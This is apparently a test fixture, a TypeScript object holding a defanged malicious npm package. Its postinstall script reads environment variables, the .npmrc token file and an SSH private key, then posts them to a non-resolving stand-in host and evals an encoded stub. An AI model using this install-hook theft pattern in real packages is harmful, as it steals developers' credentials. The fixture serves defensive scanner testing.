/** Every host ends in .invalid, which never resolves, and the decoded code only prints a sentence. */
export const malicious: Record<string, string> = {
  "package.json": `{
  "name": "color-helpers-pro",
  "version": "3.0.1",
  "description": "Small helpers for terminal colours.",
  "license": "MIT",
  "main": "index.js",
  "scripts": {
    "postinstall": "node setup.js"
  }
}
`,
  "index.js": `'use strict';

const open = (code) => (text) => '\\u001b[' + code + 'm' + text + '\\u001b[0m';

module.exports = { red: open(31), green: open(32), blue: open(34) };
`,
  "setup.js": `'use strict';
// A defanged example: collect.example.invalid does not exist.

const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const secrets = {
  environment: process.env,
  npmrc: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'),
  key: fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'),
};

const body = Buffer.from(JSON.stringify(secrets)).toString('base64');
const request = https.request({ hostname: 'collect.example.invalid', path: '/drop', method: 'POST' });
request.end(body);

// console.log("a second stage would run here")
eval(Buffer.from('Y29uc29sZS5sb2coImEgc2Vjb25kIHN0YWdlIHdvdWxkIHJ1biBoZXJlIik=', 'base64').toString());
`,
};
